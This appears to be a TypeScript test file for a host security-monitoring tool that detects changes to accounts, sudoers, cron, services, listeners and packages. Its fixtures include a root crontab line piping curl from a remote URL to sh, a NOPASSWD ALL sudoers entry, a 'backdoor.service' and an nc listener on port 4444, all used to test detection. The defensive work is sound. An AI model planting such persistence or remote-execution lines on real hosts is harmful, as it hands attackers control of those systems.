import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { detectChanges } from '../../../src/analyze/changes/detect.js';
import { globMatch, markExpected, windowAt, type ExpectedContext } from '../../../src/analyze/changes/expected.js';
import { changeFindings, changeSeverity } from '../../../src/analyze/changes/findings.js';
import { readStoredState, toStoredState, type StoredState } from '../../../src/analyze/changes/stored-state.js';
import type { PackageTransaction } from '../../../src/analyze/packages.js';
import { parseAuthorizedKeys, parseListeners, parsePackages, parseServices } from '../../../src/collect/parsers/state.js';
import { resolveWindows } from '../../../src/config/resolve.js';
import type { Change, HostState } from '../../../src/types.js';

function state(overrides: Partial<StoredState> = {}): StoredState {
  return {
    version: 1,
    bootId: 'b1',
    kernel: '6.1.0-27-amd64',
    bootedAt: '2026-11-01T00:00:00.000Z',
    users: [{ name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash' }],
    groups: { sudo: { gid: 27, members: ['alice'] } },
    sudoers: { '/etc/sudoers': { hash: 'a', lines: ['root ALL=(ALL:ALL) ALL'] } },
    cron: {},
    authorizedKeys: {},
    watched: {},
    packages: { curl: '7.88.1-10' },
    services: { 'ssh.service': { enabled: 'enabled', active: 'active', sub: 'running' } },
    listeners: [{ proto: 'tcp', address: '*', port: 22, process: 'sshd' }],
    images: null,
    ...overrides,
  };
}

const ctx = (overrides: Partial<ExpectedContext> = {}): ExpectedContext => ({
  rules: [],
  windows: [],
  transactions: [],
  owners: {},
  packages: null,
  now: new Date('2026-11-26T10:00:00Z'),
  previousPassAt: new Date('2026-11-26T09:00:00Z'),
  ...overrides,
});

function tx(packages: Partial<PackageTransaction['packages']>, commandline = 'apt install postgresql'): PackageTransaction {
  return {
    source: '/var/log/apt/history.log',
    start: '2026-11-26 09:30:00',
    end: '2026-11-26 09:31:00',
    commandline,
    requestedBy: 'alice (1000)',
    packages: { installed: [], upgraded: [], removed: [], ...packages },
    isComplete: true,
  };
}

const brief = (changes: Change[]): string[] => changes.map((c) => `${c.kind} ${c.action} ${c.subject}${c.expected ? ` [expected: ${c.reason}]` : ''}`);

describe('detectChanges', () => {
  it('reports nothing between identical states, and never compares a part that is unknown on one side', () => {
    expect(detectChanges(state(), state())).toEqual([]);
    expect(detectChanges(state(), state({ packages: null, users: null, listeners: null }))).toEqual([]);
  });

  it('users: added, removed, uid and shell changes', () => {
    const before = state({ users: [{ name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash' }, { name: 'old', uid: 1002, gid: 1002, home: '/home/old', shell: '/bin/bash' }, { name: 'svc', uid: 998, gid: 998, home: '/srv', shell: '/usr/sbin/nologin' }] });
    const after = state({ users: [{ name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash' }, { name: 'svc', uid: 0, gid: 998, home: '/srv', shell: '/bin/bash' }, { name: 'eve', uid: 1003, gid: 1003, home: '/home/eve', shell: '/bin/bash' }] });
    const changes = detectChanges(before, after);
    expect(changes.map((c) => [c.action, c.subject, c.detail])).toEqual([
      ['changed', 'svc', 'user svc: uid 998 -> 0, shell /usr/sbin/nologin -> /bin/bash'],
      ['added', 'eve', 'user eve added (uid 1003, shell /bin/bash, home /home/eve)'],
      ['removed', 'old', 'user old removed (was uid 1002)'],
    ]);
    expect(changes.map(changeSeverity)).toEqual(['crit', 'warn', 'warn']);
  });

  it('groups: one change per member, privileged membership is crit (root groups) or warn', () => {
    const changes = detectChanges(
      state({ groups: { sudo: { gid: 27, members: ['alice'] }, docker: { gid: 999, members: [] }, 'systemd-journal': { gid: 101, members: [] } } }),
      state({ groups: { sudo: { gid: 27, members: ['alice', 'eve'] }, docker: { gid: 999, members: ['eve'] }, 'systemd-journal': { gid: 101, members: ['bob'] } } }),
    );
    expect(changes.map((c) => [c.subject, changeSeverity(c)])).toEqual([
      ['sudo +eve', 'crit'],
      ['docker +eve', 'warn'],
      ['systemd-journal +bob', 'info'],
    ]);
  });

  it('sudoers and crontabs: line diffs, comment-only edits ignored, NOPASSWD ALL is crit', () => {
    const before = state({ sudoers: { '/etc/sudoers': { hash: 'a', lines: ['root ALL=(ALL:ALL) ALL'] } }, cron: { '/etc/crontab': { hash: 'c', lines: ['17 * * * * root run-parts /etc/cron.hourly'] } } });
    const after = state({
      sudoers: { '/etc/sudoers': { hash: 'b', lines: ['root ALL=(ALL:ALL) ALL'] }, '/etc/sudoers.d/x': { hash: 'x', lines: ['eve ALL=(ALL) NOPASSWD: ALL'] } },
      cron: { '/etc/crontab': { hash: 'd', lines: ['17 * * * * root run-parts /etc/cron.hourly', '*/5 * * * * root curl http://x | sh'] } },
    });
    const changes = detectChanges(before, after);
    expect(changes.map((c) => [c.kind, c.action, c.subject, c.detail])).toEqual([
      ['sudoers', 'added', '/etc/sudoers.d/x', '/etc/sudoers.d/x added: + eve ALL=(ALL) NOPASSWD: ALL'],
      ['cron', 'changed', '/etc/crontab', '/etc/crontab changed: + */5 * * * * root curl http://x | sh'],
    ]);
    expect(changes.map(changeSeverity)).toEqual(['crit', 'warn']);
  });

  it('services: added, disabled, failed and stopped; transient units ignored', () => {
    const changes = detectChanges(
      state({ services: { 'ssh.service': { enabled: 'enabled', active: 'active', sub: 'running' }, 'cron.service': { enabled: 'enabled', active: 'active', sub: 'running' }, 'app.service': { enabled: 'enabled', active: 'active', sub: 'running' } } }),
      state({
        services: {
          'ssh.service': { enabled: 'disabled', active: 'active', sub: 'running' },
          'cron.service': { enabled: 'enabled', active: 'failed', sub: 'failed' },
          'app.service': { enabled: 'enabled', active: 'inactive', sub: 'dead' },
          'backdoor.service': { enabled: 'enabled', active: 'active', sub: 'running' },
          'run-u42.service': { enabled: null, active: 'active', sub: 'running' },
          'user@1000.service': { enabled: null, active: 'active', sub: 'running' },
        },
      }),
    );
    expect(changes.map((c) => [c.category, c.subject, c.detail])).toEqual([
      ['service.removed', 'ssh.service', 'ssh.service disabled (was enabled)'],
      ['service.failed', 'cron.service', 'cron.service failed (was running)'],
      ['service.failed', 'app.service', 'app.service stopped (was running; enabled at boot)'],
      ['service.added', 'backdoor.service', 'backdoor.service added (enabled, active)'],
    ]);
  });

  it('listeners: a new public port is warn, loopback info; an ephemeral port that moved is not news', () => {
    const changes = detectChanges(
      state({ listeners: [{ proto: 'tcp', address: '*', port: 22, process: 'sshd' }, { proto: 'udp', address: '*', port: 41234, process: 'chronyd' }] }),
      state({
        listeners: [
          { proto: 'tcp', address: '*', port: 22, process: 'sshd' },
          { proto: 'udp', address: '*', port: 53999, process: 'chronyd' },
          { proto: 'tcp', address: '*', port: 4444, process: 'nc' },
          { proto: 'tcp', address: '127.0.0.1', port: 6379, process: 'redis-server' },
        ],
      }),
    );
    expect(changes.map((c) => [c.subject, c.detail, changeSeverity(c)])).toEqual([
      ['tcp *:4444', 'tcp *:4444 now listening (nc)', 'warn'],
      ['tcp 127.0.0.1:6379', 'tcp 127.0.0.1:6379 now listening (redis-server)', 'info'],
    ]);
  });

  it('watched files: changed, appeared (ld.so.preload is crit), unreadable is not a change', () => {
    const ok = (sha256: string) => ({ state: 'ok' as const, sha256, size: 10, mtime: 1795660000 });
    const missing = { state: 'missing' as const, sha256: null, size: null, mtime: null };
    const unreadable = { state: 'unreadable' as const, sha256: null, size: null, mtime: null };
    const changes = detectChanges(
      state({ watched: { '/etc/ssh/sshd_config': ok('a'.repeat(64)), '/etc/ld.so.preload': missing, '/etc/sudoers': ok('c'.repeat(64)) } }),
      state({ watched: { '/etc/ssh/sshd_config': ok('b'.repeat(64)), '/etc/ld.so.preload': ok('d'.repeat(64)), '/etc/sudoers': unreadable } }),
    );
    expect(changes.map((c) => [c.action, c.subject, changeSeverity(c)])).toEqual([
      ['changed', '/etc/ssh/sshd_config', 'warn'],
      ['added', '/etc/ld.so.preload', 'crit'],
    ]);
  });

  it('a reboot and a new kernel', () => {
    const changes = detectChanges(state(), state({ bootId: 'b2', kernel: '6.1.0-28-amd64', bootedAt: '2026-11-26T02:10:00.000Z' }));
    expect(changes.map((c) => [c.kind, c.category, c.detail])).toEqual([
      ['boot', 'host.rebooted', 'rebooted at 2026-11-26T02:10:00.000Z (previous boot 2026-11-01T00:00:00.000Z)'],
      ['kernel', 'host.rebooted', 'kernel 6.1.0-27-amd64 -> 6.1.0-28-amd64'],
    ]);
  });
});

describe('markExpected', () => {
  it('an apt transaction explains its packages, the system account and group its scripts made, its unit, listener and files', () => {
    const before = state({ packages: { curl: '1' }, users: [], groups: {}, services: {}, listeners: [], watched: {}, cron: {} });
    const after = state({
      packages: { curl: '1', postgresql: '15', 'postgresql-common': '248', netcat: '1.10' },
      users: [{ name: 'postgres', uid: 108, gid: 114, home: '/var/lib/postgresql', shell: '/bin/false' }, { name: 'eve', uid: 1001, gid: 1001, home: '/home/eve', shell: '/bin/bash' }],
      groups: { postgres: { gid: 114, members: [] } },
      services: { 'postgresql.service': { enabled: 'enabled', active: 'active', sub: 'exited' } },
      listeners: [{ proto: 'tcp', address: '127.0.0.1', port: 5432, process: 'postgres' }],
      cron: { '/etc/cron.d/postgresql-common': { hash: 'x', lines: ['0 3 * * * root pg_updatedicts'] } },
    });
    const changes = markExpected(detectChanges(before, after), ctx({ transactions: [tx({ installed: ['postgresql', 'postgresql-common'] })], owners: { '/etc/cron.d/postgresql-common': ['postgresql-common'] } }));
    expect(brief(changes)).toEqual([
      'user added postgres [expected: system account created by apt install postgresql by alice at 2026-11-26 09:30:00]',
      'user added eve',
      'group added postgres [expected: system group of apt install postgresql by alice at 2026-11-26 09:30:00]',
      'package added postgresql [expected: part of the package transaction apt install postgresql by alice at 2026-11-26 09:30:00]',
      'package added postgresql-common [expected: part of the package transaction apt install postgresql by alice at 2026-11-26 09:30:00]',
      'package added netcat',
      'service added postgresql.service [expected: unit of a package of apt install postgresql by alice at 2026-11-26 09:30:00]',
      'listener added tcp 127.0.0.1:5432 [expected: postgres of apt install postgresql by alice at 2026-11-26 09:30:00]',
      'cron added /etc/cron.d/postgresql-common [expected: file of package postgresql-common, changed by apt install postgresql by alice at 2026-11-26 09:30:00]',
    ]);
    const findings = changeFindings(changes, { existingKeys: new Set(), packageLogsRead: true });
    expect(findings.map((f) => [f.category, f.subject, f.severity, f.title])).toEqual([
      ['package.installed', 'untracked', 'warn', '1 package changes outside any logged apt/dpkg transaction: netcat'],
      ['account.user_added', 'eve', 'warn', 'User eve added (uid 1001, shell /bin/bash, home /home/eve)'],
    ]);
    // Without package logs, the unexplained package list is only information.
    expect(changeFindings(changes, { existingKeys: new Set(['account.user_added:eve']), packageLogsRead: false }).map((f) => [f.subject, f.severity])).toEqual([['untracked', 'info']]);
  });

  it('a reboot into an installed newer kernel is expected; an unplanned reboot is not', () => {
    const packages = { 'linux-image-6.1.0-28-amd64': '6.1.119-1' };
    const after = state({ bootId: 'b2', kernel: '6.1.0-28-amd64', packages });
    const planned = markExpected(detectChanges(state({ packages }), after), ctx({ packages }));
    expect(brief(planned)).toEqual([
      'boot changed boot [expected: reboot into the new kernel (booted the installed kernel package linux-image-6.1.0-28-amd64)]',
      'kernel changed 6.1.0-28-amd64 [expected: booted the installed kernel package linux-image-6.1.0-28-amd64]',
    ]);
    const crash = markExpected(detectChanges(state(), state({ bootId: 'b2', bootedAt: '2026-11-26T09:40:00.000Z' })), ctx());
    expect(crash.map((c) => c.expected)).toEqual([false]);
    expect(changeFindings(crash, { existingKeys: new Set(), packageLogsRead: true }).map((f) => [f.category, f.severity])).toEqual([['host.rebooted', 'warn']]);
  });

  it('maintenance windows use the change time when known (the boot), else the pass time; windows may cross midnight', () => {
    const windows = resolveWindows([{ days: ['sun'], start: '23:00', end: '02:00', timezone: 'Europe/Berlin' }]);
    expect(windows[0]?.label).toBe('maintenance window sun 23:00-02:00 Europe/Berlin');
    // Sunday 2026-11-29 23:30 Berlin = 22:30 UTC; Monday 01:30 Berlin = 00:30 UTC (after midnight: still the window).
    expect(windowAt(windows, new Date('2026-11-29T22:30:00Z'))).not.toBeNull();
    expect(windowAt(windows, new Date('2026-11-30T00:30:00Z'))).not.toBeNull();
    expect(windowAt(windows, new Date('2026-11-30T01:30:00Z'))).toBeNull();
    expect(windowAt(windows, new Date('2026-11-28T22:30:00Z'))).toBeNull();
    const rebootInWindow = markExpected(detectChanges(state(), state({ bootId: 'b2', bootedAt: '2026-11-29T22:40:00.000Z' })), ctx({ windows, now: new Date('2026-11-30T09:00:00Z') }));
    expect(brief(rebootInWindow)).toEqual(['boot changed boot [expected: inside maintenance window sun 23:00-02:00 Europe/Berlin]']);
    const userAtPassTime = markExpected(detectChanges(state(), state({ users: [] })), ctx({ windows, now: new Date('2026-11-29T23:00:00Z') }));
    expect(userAtPassTime[0]?.reason).toBe('inside maintenance window sun 23:00-02:00 Europe/Berlin');
  });

  it('expected_changes rules match kind, action and a subject glob', () => {
    expect(globMatch('tcp *:80?0', 'tcp *:8080')).toBe(true);
    expect(globMatch('nginx*', 'xnginx')).toBe(false);
    expect(globMatch('a.b', 'axb')).toBe(false);
    const changes = markExpected(
      detectChanges(state(), state({ listeners: [{ proto: 'tcp', address: '*', port: 22, process: 'sshd' }, { proto: 'tcp', address: '*', port: 8080, process: 'java' }] })),
      ctx({ rules: [{ kind: 'listener', subject: 'tcp *:8080', action: 'added', reason: 'the app server' }] }),
    );
    expect(brief(changes)).toEqual(['listener added tcp *:8080 [expected: expected_changes: the app server]']);
  });

  it('more than ten changes of one category are one grouped finding', () => {
    const users = Array.from({ length: 12 }, (_, i) => ({ name: `u${i}`, uid: 2000 + i, gid: 2000, home: `/home/u${i}`, shell: '/bin/bash' }));
    const findings = changeFindings(detectChanges(state({ users: [] }), state({ users })), { existingKeys: new Set(), packageLogsRead: true });
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ category: 'account.user_added', count: 12, subject: '12 users', severity: 'warn' });
  });
});

describe('stored state', () => {
  it('redacts lines, keeps what could not be read from the previous baseline, and ignores a foreign baseline', () => {
    const host: HostState = {
      bootId: null,
      users: null,
      groups: null,
      sudoers: null,
      cron: { '/etc/cron.d/job': { state: 'ok', hash: 'h', lines: ['# note', '* * * * * root job --password=hunter2'] } },
      authorizedKeys: null,
      watched: null,
      packages: null,
      services: null,
      listeners: null,
      owners: {},
      unavailable: {},
    };
    const previous = state();
    const stored = toStoredState(host, { kernel: '', bootedAt: null }, previous, (l) => l.replace(/hunter2/g, '********'));
    expect(stored.cron).toEqual({ '/etc/cron.d/job': { hash: 'h', lines: ['* * * * * root job --password=********'] } });
    expect(stored.users).toEqual(previous.users);
    expect(stored.kernel).toBe(previous.kernel);
    expect(readStoredState({ version: 2 })).toBeNull();
    expect(readStoredState('x')).toBeNull();
  });
});

describe('state parsers', () => {
  it('authorized_keys fingerprints are the ones ssh-keygen prints', () => {
    const dir = mkdtempSync(join(tmpdir(), 'dthm-key-'));
    try {
      execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'eve@laptop', '-f', join(dir, 'k')]);
      const pub = execFileSync('cat', [join(dir, 'k.pub')], { encoding: 'utf8' }).trim();
      const expected = execFileSync('ssh-keygen', ['-l', '-f', join(dir, 'k.pub')], { encoding: 'utf8' }).split(' ')[1];
      writeFileSync(join(dir, 'authorized_keys'), `${pub}\n`);
      expect(parseAuthorizedKeys([`from="10.0.0.0/8",command="echo a b" ${pub}`, 'garbage line', `ssh-rsa AAAA short`])).toEqual([
        { type: 'ssh-ed25519', fingerprint: expected, comment: 'eve@laptop', options: 'from="10.0.0.0/8",command="echo a b"' },
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('ss lines (IPv4, IPv6, scoped, mapped) and /proc/net lines', () => {
    const text = [
      'S tcp   LISTEN 0      4096   127.0.0.53%lo:53    0.0.0.0:*    users:(("systemd-resolve",pid=1,fd=14))',
      'S tcp   LISTEN 0      128    [::]:22    [::]:*    users:(("sshd",pid=612,fd=4))',
      'S tcp   LISTEN 0      128    [::ffff:127.0.0.1]:8080    *:*',
      'S tcp   ESTAB  0      0      10.0.0.5:22    10.0.0.9:51000',
      'S udp   UNCONN 0      0      *:68    *:*',
      'P tcp   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1',
      'P tcp6   1: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000 0A 0',
      'P udp   2: 00000000:0044 00000000:0000 07 0',
      'garbage',
    ].join('\n');
    expect(parseListeners(text)).toEqual([
      { proto: 'tcp', address: '*', port: 22, process: 'sshd' },
      { proto: 'tcp', address: '::1', port: 22, process: null },
      { proto: 'tcp', address: '127.0.0.53', port: 53, process: 'systemd-resolve' },
      { proto: 'tcp', address: '127.0.0.1', port: 8080, process: null },
      { proto: 'udp', address: '*', port: 68, process: null },
    ]);
  });

  it('packages keep installed ones only; services merge unit files and units', () => {
    expect(parsePackages('curl:amd64\t7.88\tii \nold\t1.0\trc \nheld\t2\thi \nbad line')).toEqual({ curl: '7.88', held: '2' });
    expect(parseServices('F a.service enabled enabled\nU a.service loaded active running A\nU b.service not-found inactive dead b\nF c.socket enabled enabled')).toEqual({
      'a.service': { enabled: 'enabled', active: 'active', sub: 'running' },
    });
  });
});
